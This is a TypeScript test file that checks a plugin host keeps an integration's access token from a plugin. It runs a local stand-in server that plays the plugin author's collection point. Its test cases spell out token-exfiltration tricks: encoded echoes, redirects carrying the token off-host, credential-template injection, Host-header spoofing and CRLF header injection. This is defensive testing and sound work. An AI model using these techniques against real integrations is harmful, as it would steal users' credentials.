import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'chai';
import { type RunningHost, startHost } from '../../helpers/host.ts';
import {
  type DemoVendor,
  demoEnv,
  demoManifest,
  installDemo,
  startDemoVendor,
} from '../../integrations/demo-vendor.ts';

const token = 'good-token-0123456789';
const piece = 'token-0123456';

/** A plugin that tries to read its own token, a way a test. `elsewhere` is a server of the plugin's author. */
describe('A plugin that wants its token', function () {
  this.timeout(60_000);
  let host: RunningHost;
  let vendor: DemoVendor;
  let elsewhere: Server;
  let other: string;
  let stolen = '';
  let id: string;

  before(async () => {
    vendor = await startDemoVendor();
    elsewhere = createServer(async (request, response) => {
      stolen += `${request.method} ${request.url} ${JSON.stringify(request.headers)}`;
      for await (const chunk of request) stolen += chunk;
      response.end('thanks');
    });
    await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.2', done));
    other = `http://127.0.0.2:${(elsewhere.address() as AddressInfo).port}`;
    host = await startHost({ env: demoEnv });
    const manifest = demoManifest(vendor);
    const network = { name: 'network', hosts: [vendor.url, other], private: true, reason: 'test' };
    await installDemo(host, { ...manifest, permissions: [network, ...manifest.permissions.slice(1)] });
    const made = await host.request('POST', '/integrations', {
      body: { integration_type: 'demo', name: 'Main', auth_config: { access_token: token } },
    });
    id = made.body.content.id;
  });
  after(async () => {
    vendor.close();
    elsewhere.close();
    await host.remove();
  });
  beforeEach(() => {
    stolen = '';
    vendor.before = undefined;
  });

  const run = async (input: object): Promise<string> =>
    (await host.request('POST', `/integrations/${id}/actions/echo`, { body: { input } })).text;
  /** Neither what came back, nor what its author's server heard, holds the token in any spelling. */
  function clean(...texts: string[]): void {
    for (const text of [...texts, stolen]) {
      for (const spelling of [
        token,
        piece,
        Buffer.from(token).toString('base64').slice(2, -4),
        Buffer.from(token).toString('hex'),
        [...token].reverse().join(''),
      ])
        expect(text.toLowerCase()).not.to.contain(spelling.toLowerCase());
    }
  }
  /** The vendor answers with what `say` makes of the Authorization header that it got. */
  const vendorSays = (
    say: (bearer: string) => { headers?: Record<string, string>; body?: string | Buffer; status?: number },
  ) => {
    vendor.before = (request, response) => {
      const bearer = String(request.headers.authorization).replace('Bearer ', '');
      expect(bearer).to.equal(token);
      const { headers = {}, body = '', status = 200 } = say(bearer);
      response.writeHead(status, { 'content-type': 'text/plain', ...headers }).end(body);
      return true;
    };
  };

  const echoes: [
    string,
    (bearer: string) => { headers?: Record<string, string>; body?: string | Buffer; status?: number },
  ][] = [
    ['echoed in the body', (bearer) => ({ body: `you sent ${bearer}.` })],
    ['echoed in a header', (bearer) => ({ headers: { 'x-echo': `Bearer ${bearer}` } })],
    ['echoed in a header name’s value list', (bearer) => ({ headers: { vary: `a, ${bearer}, b` } })],
    [
      'echoed in JSON',
      (bearer) => ({ body: JSON.stringify({ a: { b: [bearer] } }), headers: { 'content-type': 'application/json' } }),
    ],
    ['echoed in an error answer', (bearer) => ({ status: 400, body: `bad token ${bearer}` })],
    ['echoed in a 500', (bearer) => ({ status: 500, body: bearer })],
    ['in capitals', (bearer) => ({ body: bearer.toUpperCase() })],
    ['percent-encoded', (bearer) => ({ body: encodeURIComponent(bearer) })],
    [
      'with every byte percent-encoded',
      (bearer) => ({ body: [...Buffer.from(bearer)].map((one) => `%${one.toString(16)}`).join('') }),
    ],
    ['in base64', (bearer) => ({ body: Buffer.from(bearer).toString('base64') })],
    [
      'in base64 of the whole header',
      (bearer) => ({ body: Buffer.from(`Authorization: Bearer ${bearer}\r\n`).toString('base64') }),
    ],
    ['in base64, one byte on', (bearer) => ({ body: Buffer.from(`x${bearer}yz`).toString('base64') })],
    ['in base64, two bytes on', (bearer) => ({ body: Buffer.from(`xx${bearer}y`).toString('base64') })],
    ['in base64url', (bearer) => ({ body: Buffer.from(`>>>${bearer}???`).toString('base64url') })],
    ['in hex', (bearer) => ({ body: Buffer.from(bearer).toString('hex') })],
    ['in capital hex', (bearer) => ({ body: Buffer.from(bearer).toString('hex').toUpperCase() })],
    ['reversed', (bearer) => ({ body: [...bearer].reverse().join('') })],
    [
      'escaped as JSON code points',
      (bearer) => ({
        body: [...bearer].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
      }),
    ],
    [
      'among bytes that are no text',
      (bearer) => ({
        body: Buffer.concat([Buffer.from([0xff, 0xfe, 0x00]), Buffer.from(bearer), Buffer.from([0xff])]),
      }),
    ],
    ['cut at the end of the answer', (bearer) => ({ body: `sent: ${bearer.slice(0, -2)}` })],
    ['cut at the beginning of the answer', (bearer) => ({ body: `${bearer.slice(2)} was sent` })],
    ['many times', (bearer) => ({ body: `${bearer} `.repeat(200) })],
  ];
  for (const [what, say] of echoes) {
    it(`does not get it ${what}`, async () => {
      vendorSays(say);
      const text = await run({});
      expect(text).to.contain('S10000');
      clean(text);
    });
  }

  const redirects: [string, (bearer: string) => string][] = [
    ['to its own server', () => `${other}/x`],
    ['to its own server with the token in the address', (bearer) => `${other}/x?token=${bearer}`],
    [
      'to its own server with the token in base64 in the path',
      (bearer) => `${other}/${Buffer.from(bearer).toString('base64url')}`,
    ],
    ['to its own server with the token as user name', (bearer) => other.replace('http://', `http://${bearer}@`)],
    ['to its own server with the token in the fragment', (bearer) => `${other}/x#${bearer}`],
  ];
  for (const status of [301, 307]) {
    for (const [what, to] of redirects) {
      it(`does not get it by a ${status} ${what}`, async () => {
        vendorSays((bearer) => ({ status, headers: { location: to(bearer) } }));
        clean(
          await run({ init: { method: status === 307 ? 'POST' : 'GET', ...(status === 307 ? { body: 'x' } : {}) } }),
        );
      });
    }
  }

  it('does not get it by looking at the redirect itself', async () => {
    vendorSays((bearer) => ({ status: 302, headers: { location: `/next?token=${bearer}` } }));
    clean(await run({ init: { redirect: 'manual' } }), await run({ init: { redirect: 'error' } }));
  });

  it('does not get it back after a redirect away and home again', async () => {
    vendor.before = (request, response) => {
      if (request.url === '/home') response.end(String(request.headers.authorization));
      else response.writeHead(302, { location: `${other}/away` }).end();
      return true;
    };
    elsewhere.once('request', () => undefined);
    clean(await run({}));
  });

  const asks: [string, () => object][] = [
    ['by asking its own server', () => ({ url: `${other}/mine` })],
    ['by asking its own server with the account’s auth', () => ({ url: `${other}/mine`, init: { auth: 'key' } })],
    ['by naming another way to authorise', () => ({ init: { auth: 'oauth' } })],
    ['by naming an auth that does not exist', () => ({ init: { auth: '__proto__' } })],
    ['by a template in the address', () => ({ url: `${other}/{credential.access_token}` })],
    [
      'by a template in a header',
      () => ({ url: `${other}/`, init: { headers: { 'x-steal': '{credential.access_token}' } } }),
    ],
    [
      'by a template in the body',
      () => ({ url: `${other}/`, init: { method: 'POST', body: '{credential.access_token}' } }),
    ],
    ['by a relative address that names another host', () => ({ url: `//${other.slice(7)}/x` })],
    ['by a relative address with backslashes', () => ({ url: `\\\\${other.slice(7)}/x` })],
    [
      'by an address with the vendor as user name',
      () => ({ url: `http://${vendor.url.slice(7)}@${other.slice(7)}/x` }),
    ],
    ['by a Host header', () => ({ init: { headers: { Host: other.slice(7) } } })],
    ['by a forwarding header', () => ({ init: { headers: { 'X-Forwarded-Host': other.slice(7) } } })],
    ['by TRACE', () => ({ init: { method: 'TRACE' } })],
    [
      'by the name of another hook’s secret',
      () => ({ url: `${other}/`, init: { method: 'POST', body: 'pbhook-hok_00000000000000000000' } }),
    ],
    ['by a loopback address of the host', () => ({ url: `${host.url}/api/v1/integrations/${id}` })],
    ['by another integration’s id', () => ({ url: '/echo', init: { as: 'int_00000000000000000000' } })],
    ['from the message of a broken answer', () => ({ init: { max_bytes: 1 } })],
    ['from the message of a time-out', () => ({ init: { timeout_ms: 1 } })],
    ['from the message of a bad header', () => ({ init: { headers: { 'x-a': 'b\r\nx-c: d' } } })],
  ];
  for (const [what, input] of asks) {
    it(`does not get it ${what}`, async () => {
      clean(await run(input()));
    });
  }

  it('leaves it in no log, invocation, integration or event', async () => {
    vendorSays((bearer) => ({ body: bearer }));
    await run({});
    const plugins = (await host.request('GET', '/plugins')).body.content.plugins as { id: string; name: string }[];
    const plugin = plugins.find(({ name }) => name === '@tests/demo')?.id;
    const seen = await Promise.all(
      [
        `/plugins/${plugin}/logs`,
        `/plugins/${plugin}/invocations`,
        `/integrations/${id}`,
        `/integrations/${id}/logs`,
        '/events',
        '/audit',
      ].map(async (path) => (await host.request('GET', path)).text),
    );
    clean(...seen, host.output());
  });
});
